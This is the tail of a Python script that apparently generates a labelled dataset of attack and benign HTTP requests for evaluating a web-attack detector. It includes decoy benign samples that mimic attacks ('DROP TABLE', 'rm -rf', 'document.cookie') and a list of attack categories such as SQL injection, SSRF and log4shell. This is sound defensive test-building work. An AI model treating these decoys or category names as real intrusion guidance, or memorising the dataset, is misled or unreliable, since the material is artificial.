    '<p>To embed the widget, paste this before <code>&lt;/body&gt;</code>:</p><pre><code class="language-html">&lt;script src="https://cdn.taskpilot.io/widget.js" async&gt;&lt;/script&gt;</code></pre>',
    '<p>Run the migration:</p><pre><code class="language-sql">SELECT id, email FROM users WHERE deleted_at IS NULL ORDER BY id;\nDROP TABLE IF EXISTS tmp_users;</code></pre>',
    "<p>Clean up with <code>rm -rf ./node_modules &amp;&amp; npm ci</code>, then check <code>/etc/hosts</code> if <kbd>localhost</kbd> fails.</p>",
    '<div class="video-embed"><iframe src="https://player.vimeo.com/video/%d?h=%s&amp;title=0&amp;byline=0" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe></div>'
    % (rint(10**8, 10**9), rhex(10)),
    "<p>If a &lt; b and b &lt; c then a &lt; c. Also: x &gt; 0 &amp;&amp; y &gt; 0 =&gt; quadrant I.</p><p>$$\\frac{a}{b} \\le 1$$</p>",
    "<p>Press <kbd>Ctrl</kbd>+<kbd>Shift</kbd>+<kbd>I</kbd>, open the Console and type <code>document.cookie</code> to see what's stored.</p>",
    '<p style="text-align:center;color:#64748b"><span style="font-size:18px">Menu</span></p><table style="width:100%"><tr><td>Soup of the day</td><td>6,50 €</td></tr><tr><td>Käsespätzle</td><td>13,90 €</td></tr></table>',
    "```python\nimport os\nprint(os.environ.get('HOME'))\n```\n\nThat's how you read env vars -- don't use `eval()` for this.",
    '<blockquote><p>"Select the union of both sets, then drop duplicates" -- the exercise sheet, Q3</p></blockquote>',
    '<p><a href="mailto:events@rsvpnow.io?subject=RSVP%20%E2%80%93%20Gala">RSVP by mail</a> or <a href="tel:+41441234567">call us</a>.</p>',
    '<details><summary>Show spoiler</summary><p>The butler did it. Obviously. <img src="https://cdn.quillreads.com/emoji/shrug.png" alt="¯\\_(ツ)_/¯" width="20"></p></details>',
]


def rt_h_json(cat, hard):
    html = ch(RT_HARD)
    bj(
        cat,
        hard,
        ch(["cms.cobalt-press.com", "app.taskpilot.io", "wiki.orbitlabs.io"]),
        ch(["PUT", "POST"]),
        "/api/v1/pages/%d" % rint(100, 9999),
        {"title": "Guide", "body": html, "format": "html"},
        html,
    )


def rt_h_form(cat, hard):
    html = ch(RT_HARD)
    bf(
        cat,
        hard,
        "forum.gearheads.net",
        "/posts/%d/reply" % rint(1000, 99999),
        [("message", html), ("notify", "1"), ("authenticity_token", ralnum(43))],
        "message",
    )


def rt_h_multipart(cat, hard):
    html = ch(RT_HARD)
    bm(
        cat,
        hard,
        "cms.cobalt-press.com",
        "/wp-admin/post.php",
        [("post_title", "How-to", None, None), ("content", html, None, None), ("post_status", "draft", None, None)],
        html,
    )


def gen_richtext(cat, n):
    run_gen(
        cat, n, [rt_html, rt_markdown, rt_table, rt_quill, rt_media, rt_xmlrpc], [rt_h_json, rt_h_form, rt_h_multipart]
    )


# ================================================================ main

ATTACK_SPECS = [
    ("java_injection", specs_java),
    ("php_injection", specs_php),
    ("code_injection", specs_code),
    ("rfi", specs_rfi),
    ("ssrf", specs_ssrf),
    ("rce", specs_rce),
    ("sqli", specs_sqli),
    ("nosqli", specs_nosqli),
    ("ldapi", specs_ldapi),
    ("ssti", specs_ssti),
    ("crlf", specs_crlf),
    ("mail_injection", specs_mail),
    ("xss", specs_xss),
    ("path_traversal", specs_path),
    ("xxe", specs_xxe),
    ("log4shell", specs_log4shell),
]
BENIGN_GENS = [
    ("benign_logistics", gen_logistics, 74),
    ("benign_insurance", gen_insurance, 74),
    ("benign_dating", gen_dating, 74),
    ("benign_news", gen_news, 74),
    ("benign_devtools", gen_devtools, 74),
    ("benign_code_review", gen_code_review, 73),
    ("benign_search", gen_search, 73),
    ("benign_graphql", gen_graphql, 73),
    ("benign_urls", gen_urls, 73),
    ("benign_files", gen_files, 73),
    ("benign_base64", gen_base64, 73),
    ("benign_api_json", gen_api_json, 73),
    ("benign_forms", gen_forms, 73),
    ("benign_headers", gen_headers, 73),
    ("benign_richtext", gen_richtext, 73),
]
KEY_ORDER = [
    "id",
    "label",
    "category",
    "method",
    "path",
    "query",
    "headers",
    "body",
    "placement",
    "payload",
    "hard",
    "source",
]


def _all_strings(o, keys, vals):
    if isinstance(o, dict):
        for k, v in o.items():
            keys.add(k)
            _all_strings(v, keys, vals)
        vals.add(jcompact(o))
    elif isinstance(o, list):
        for v in o:
            _all_strings(v, keys, vals)
        vals.add(jcompact(o))
    elif isinstance(o, str):
        vals.add(o)


def check_row(r):
    """Self-check: the payload really is where the row says, after the
    documented decoding."""
    pl, p, hd, body = r["placement"], r["payload"], r["headers"], r["body"]
    assert list(r) == KEY_ORDER
    assert list(hd)[:3] == ["Host", "User-Agent", "Accept"], r["id"]
    assert ("Content-Type" in hd) == bool(body), r["id"]
    if body:
        assert list(hd)[3] == "Content-Type", r["id"]
    assert "Content-Length" not in hd
    for k, v in hd.items():
        assert v.isascii() and "\r" not in v and "\n" not in v, (r["id"], k)
    assert r["path"].startswith("/"), r["id"]

    def dec(s):
        try:
            return unquote_plus(s, encoding="utf-8", errors="strict")
        except UnicodeDecodeError:
            return unquote_plus(s, encoding="latin-1")

    if pl in ("query", "query_key"):
        kv = [x.split("=", 1) for x in r["query"].split("&")]
        if pl == "query":
            assert p in [dec(x[1]) for x in kv if len(x) == 2], r["id"]
        else:
            assert p in [dec(x[0]) for x in kv], r["id"]
    elif pl == "path":
        assert p in unquote(r["path"]), r["id"]
    elif pl == "form":
        kv = [x.split("=", 1) for x in body.split("&")]
        assert p in [unquote_plus(x[1]) for x in kv] + [unquote_plus(x[0]) for x in kv], r["id"]
    elif pl == "cookie":
        cs = [c.split("=", 1) for c in hd["Cookie"].split("; ")]
        assert p in [unquote(c[1]) for c in cs if len(c) == 2], r["id"]
    elif pl == "header":
        assert p in hd.values(), r["id"]
    elif pl in ("json", "json_key"):
        if r["category"] == "nosqli" and '"roles":[],' in body:
            assert p in body
        else:
            keys, vals = set(), set()
            _all_strings(json.loads(body), keys, vals)
            assert p in (keys if pl == "json_key" else vals), r["id"]
    elif pl == "multipart":
        assert p in body and hd["Content-Type"].startswith("multipart/form-data; boundary="), r["id"]
        assert body.endswith("--\r\n")
    elif pl == "xml":
        if body != p:
            root = ET.fromstring(body)
            assert p in [e.text for e in root.iter()], r["id"]
    else:
        raise AssertionError(pl)


def main():
    for cat, fn in ATTACK_SPECS:
        n, h = fn()
        assert len(n) == 30 and len(h) == 20, (cat, len(n), len(h))
        specs = n + h
        R.shuffle(specs)
        for sp in specs:
            build_attack(cat, sp)
    for cat, fn, cnt in BENIGN_GENS:
        fn(cat, cnt)
    for r in ROWS:
        check_row(r)
    with open(OUT, "w", encoding="utf-8", newline="\n") as f:
        for r in ROWS:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    att = sum(1 for r in ROWS if r["label"] == "attack")
    print("wrote %d rows (%d attack, %d benign) to %s" % (len(ROWS), att, len(ROWS) - att, OUT))


if __name__ == "__main__":
    main()
